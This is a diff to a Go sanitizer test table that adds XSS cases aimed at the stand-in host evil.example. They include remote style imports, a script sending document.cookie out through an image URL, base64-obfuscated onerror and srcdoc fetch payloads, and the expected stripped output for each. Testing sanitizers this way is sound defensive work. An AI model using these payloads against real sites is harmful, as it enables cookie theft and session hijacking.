@@ -152,6 +152,11 @@ var renderedCases = []struct {
 	{name: "code span opening in an autolink", text: "`<https://ok.example/`[x](https://evil.example)>", want: "`<https://ok.example/`x>"},
 	{name: "code span opening in a tag", text: "`<b title=\"`[x](https://evil.example)\">"},
 	{name: "raw HTML in a label that is no definition", text: "a\n[<img src=https://evil.example/x>]: https://ok.example/\n", want: "a\n[[image removed]]: https://ok.example/\n"},
+	{name: "style element", text: "<style>body{background:url(https://evil.example/x)}</style>", want: "body{background:url(https://evil.example/x)}</style>"},
+	{name: "style element importing", text: "<STYLE type=text/css>@import '//evil.example/x.css';</STYLE>", want: "@import '//evil.example/x.css';</STYLE>"},
+	{name: "script element", text: "<script>new Image().src='//evil.example/'+document.cookie</script>", want: "new Image().src='//evil.example/'+document.cookie</script>"},
+	{name: "event handler", text: "<img src=x.png onerror=\"this.src=atob('Ly9ldmlsLmV4YW1wbGUveA')\">", want: "[image removed]"},
+	{name: "srcdoc", text: "<iframe srcdoc=\"<script>fetch(atob('Ly9ldmlsLmV4YW1wbGU'))</script>\"></iframe>", want: "</iframe>"},
 	{name: "raw iframe and a", text: "<iframe src=https://evil.example/></iframe><a href=\"//evil.example\">x</a>", want: "</iframe>x</a>"},
 }
 
